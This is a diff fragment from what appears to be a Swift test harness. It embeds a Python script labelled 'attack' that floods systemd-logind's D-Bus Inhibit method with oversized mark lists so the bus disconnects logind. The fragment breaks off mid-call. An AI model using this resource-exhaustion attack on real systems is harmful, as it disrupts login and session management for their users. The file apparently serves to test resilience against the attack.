@@ -45,7 +45,7 @@ extension WholeSystem {
                 let usual = try askedByRoot(world)
                 let attack = """
                     import time
-                    marks = \(Self.marks)[:2000000] # logind's list of them has to fit in a message, else the bus throws logind out
+                    marks = (\(Self.marks))[:2000000] # logind's list of them has to fit in a message, else the bus throws logind out
                     attacker = Bus()
                     for start in ["lightsout", "block", ""]:
                         attacker.call("org.freedesktop.login1", "/org/freedesktop/login1", "org.freedesktop.login1.Manager", "Inhibit", "ssss",
